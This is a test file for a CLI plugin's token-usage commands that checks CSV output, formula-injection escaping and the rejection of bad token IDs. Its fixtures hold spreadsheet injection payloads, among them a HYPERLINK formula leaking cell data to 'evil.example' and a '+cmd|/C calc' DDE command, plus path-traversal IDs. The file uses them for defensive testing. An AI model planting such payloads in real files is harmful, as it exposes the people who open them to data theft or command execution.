import { writeFileSync } from 'node:fs';
import { expect } from 'chai';
import { generateState, type EmulatorState } from '../../emulator/model.js';
import type { TokensRevokeResult } from '../../src/commands/external-client-app/usage/tokens/revoke.js';
import { parseCsv } from '../../src/common/csv.js';
import type { AppUsage, TokenUsage, UserUsage } from '../../src/api/types.js';
import { runPlugin, usageRequests, useEmulator } from './runPlugin.js';

const USAGE = ['external-client-app', 'usage'];
const REVOKE = [...USAGE, 'tokens', 'revoke'];
const header = (csv: string): string => csv.split('\r\n')[0];

// Free text a spreadsheet would run: an app description and usernames that start like formulas, and values that
// start with a quote, which must come back from a file exactly as the API sent them.
const HOSTILE_USERNAMES = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")@acme.example.com',
  '+cmd|/C calc!A0@acme.example.com',
  '@SUM(1+1)@acme.example.com',
  "'=quoted@acme.example.com",
  "'plain@acme.example.com",
];
const HOSTILE_DESCRIPTION = '=HYPERLINK("http://evil.example","Update required")';

function hostileState(): EmulatorState {
  const state = generateState({ apps: 2, usersPerApp: HOSTILE_USERNAMES.length, tokensPerUser: 1, seed: 3, sharedUsers: true });
  state.apps[0].description = HOSTILE_DESCRIPTION;
  state.users = state.users.map((user, index) => ({
    ...user,
    username: HOSTILE_USERNAMES[index % HOSTILE_USERNAMES.length] + (index >= HOSTILE_USERNAMES.length ? String(index) : ''),
  }));
  // Token ids may start with "-" (letters, digits, "-", "_"); the CSV guard must not break them.
  state.tokens[0].tokenId = `-${state.tokens[0].tokenId}`;
  return state;
}

describe('CSV output and --from-file (against the emulator)', () => {
  const { emulator, scratch } = useEmulator(hostileState());

  it('writes the same CSV header with no rows as with rows: every documented column, in a fixed order', async () => {
    const app = emulator.state().apps[0].developerName;
    const none = ['--last-used-before', '2000-01-01'];
    const cases: Array<[string[], string]> = [
      [
        [...USAGE, 'tokens', 'list'],
        'tokenId,appIdentifier,appDeveloperName,userIdentifier,username,initialConnectionAt,lastUsedAt,useCount,accessTokenFormat,revocationUrl,orgId',
      ],
      [
        [...USAGE, 'users', 'list', '--app', app],
        'userIdentifier,username,appIdentifier,appDeveloperName,initialConnectionAt,lastUsedAt,useCount,accessTokenFormat,revocationUrl,orgId',
      ],
    ];
    for (const [args, expected] of cases) {
      // eslint-disable-next-line no-await-in-loop
      const [full, empty] = await Promise.all([runPlugin(emulator, [...args, '-r', 'csv']), runPlugin(emulator, [...args, ...none, '-r', 'csv'])]);
      expect(full.code, full.stderr).to.equal(0);
      expect(parseCsv(full.stdout)).to.have.length.greaterThan(0);
      expect(header(full.stdout), args.join(' ')).to.equal(expected);
      expect(empty.stdout, args.join(' ')).to.equal(`${expected}\r\n`);
      // Every row names the org it came from (§16), in CSV and in JSON.
      expect(new Set(parseCsv(full.stdout).map((row) => row.orgId)), args.join(' ')).to.deep.equal(new Set([emulator.state().org.orgId]));
      // eslint-disable-next-line no-await-in-loop
      const json = await runPlugin<Array<TokenUsage | UserUsage>>(emulator, [...args, '--json']);
      expect(new Set(json.json!.result.map((row) => row.orgId)), args.join(' ')).to.deep.equal(new Set([emulator.state().org.orgId]));
    }

    const apps = 'identifier,developerName,description,accessTokenFormat,isFromPackage,availableActions,usageDetailsUrl';
    const listed = await runPlugin(emulator, [...USAGE, 'list', '-r', 'csv']);
    expect(header(listed.stdout)).to.equal(apps);
    const counted = await runPlugin(emulator, [...USAGE, 'list', '--user-counts', '-r', 'csv']);
    expect(header(counted.stdout)).to.equal(`${apps},userCount`);
    emulator.reset({ ...emulator.state(), apps: [], users: [], tokens: [] });
    const empty = await runPlugin(emulator, [...USAGE, 'list', '-r', 'csv']);
    expect(empty.stdout).to.equal(`${apps}\r\n`);
    expect((await runPlugin(emulator, [...USAGE, 'list', '--user-counts', '-r', 'csv'])).stdout).to.equal(`${apps},userCount\r\n`);
  });

  it("writes cells that start like formulas with a leading ', and the same values as --json otherwise", async () => {
    const apps = await runPlugin(emulator, [...USAGE, 'list', '-r', 'csv']);
    expect(apps.stdout).to.include(`"'${HOSTILE_DESCRIPTION.replaceAll('"', '""')}"`);
    const users = await runPlugin(emulator, [...USAGE, 'users', 'list', '--app', emulator.state().apps[0].identifier, '-r', 'csv']);
    const userCells = users.stdout.split('\r\n').slice(1, -1);
    expect(userCells.some((line) => line.includes(',"\'=HYPERLINK(""http://evil.example/'))).to.equal(true);
    expect(userCells.some((line) => line.includes(",'+cmd|/C calc!A0@acme.example.com,"))).to.equal(true);
    expect(userCells.some((line) => line.includes(",'@SUM(1+1)@acme.example.com,"))).to.equal(true);
    expect(userCells.some((line) => line.includes(",''=quoted@acme.example.com,"))).to.equal(true);
    expect(userCells.some((line) => line.includes(",'plain@acme.example.com,"))).to.equal(true);

    const json = await runPlugin<UserUsage[]>(emulator, [...USAGE, 'users', 'list', '--app', emulator.state().apps[0].identifier, '--json']);
    expect(parseCsv(users.stdout).map((row) => row.username)).to.deep.equal(json.json!.result.map((row) => row.username));
    const listed = await runPlugin<AppUsage[]>(emulator, [...USAGE, 'list', '--json']);
    expect(parseCsv(apps.stdout).map((row) => row.description)).to.deep.equal(listed.json!.result.map((row) => row.description));
  });

  it('reads its own guarded CSV back exactly (tokens list -r csv, then tokens revoke --from-file --dry-run), and a header alone as nothing to revoke', async () => {
    const csv = await runPlugin(emulator, [...USAGE, 'tokens', 'list', '-r', 'csv']);
    expect(csv.code, csv.stderr).to.equal(0);
    const file = scratch('tokens.csv');
    writeFileSync(file, csv.stdout);
    const listed = await runPlugin<TokenUsage[]>(emulator, [...USAGE, 'tokens', 'list', '--json']);
    emulator.clearLog();

    const result = await runPlugin<TokensRevokeResult>(emulator, [...REVOKE, '--from-file', file, '--dry-run', '--json']);
    expect(result.code, result.stderr).to.equal(0);
    const planned = result.json!.result.successes.map((t) => [t.tokenId, t.username, t.appDeveloperName, t.status]);
    const expected = listed.json!.result.map((t) => [t.tokenId, t.username, t.appDeveloperName, 'would-revoke']);
    expect(planned).to.deep.equal(expected);
    expect(planned.map(([tokenId]) => tokenId)).to.include(emulator.state().tokens[0].tokenId);
    expect(planned.map(([, username]) => username)).to.include.members(HOSTILE_USERNAMES);
    expect(usageRequests(emulator)).to.deep.equal([]);

    // What tokens list writes when nothing matched: a header alone. A real run (no --dry-run) succeeds and sends nothing.
    writeFileSync(file, `${csv.stdout.split('\r\n')[0]}\r\n`);
    const nothing = await runPlugin(emulator, [...REVOKE, '--from-file', file, '--no-prompt']);
    expect(nothing.code, nothing.stderr).to.equal(0);
    expect(nothing.stdout).to.include('Nothing to revoke');
    expect(usageRequests(emulator)).to.deep.equal([]);
  });

  it('names the file and the line of a bad token id in a CSV, counting lines as an editor does', async () => {
    const file = scratch('edited.csv');
    // Line 1 header, line 2 a token, lines 3-4 a quoted field with a line break, line 5 blank, line 6 the bad id.
    writeFileSync(file, 'tokenId,note\r\nT1,ok\r\nT2,"two\nlines"\r\n\r\nT3/../x,bad\r\n');
    const result = await runPlugin(emulator, [...REVOKE, '--from-file', file, '--dry-run', '--json']);
    expect(result.code).to.equal(1);
    expect(result.json?.name).to.equal('InvalidTokenIdError');
    expect(result.json?.message).to.include(`In the file "${file}", line 6: "T3/../x" is not a token ID`);
    const gap = scratch('gap.csv');
    writeFileSync(gap, 'tokenId,username\r\nT1,a\r\n,b\r\n');
    const missing = await runPlugin(emulator, [...REVOKE, '--from-file', gap, '--dry-run']);
    expect(missing.code).to.equal(1);
    expect(missing.stderr).to.include(`In the file "${gap}", line 3 has no token ID or revocation URL.`);
    expect(usageRequests(emulator)).to.deep.equal([]);
  });

  it('names the item of a JSON file with a bad token id', async () => {
    const file = scratch('edited.json');
    writeFileSync(file, JSON.stringify({ status: 0, result: [{ tokenId: 'T1' }, { tokenId: '../x' }] }, null, 2));
    const result = await runPlugin(emulator, [...REVOKE, '--from-file', file, '--dry-run', '--json']);
    expect(result.code).to.equal(1);
    expect(result.json?.message).to.include(`In the file "${file}", item 2 (index 1 of the array): "../x" is not a token ID`);
  });
});
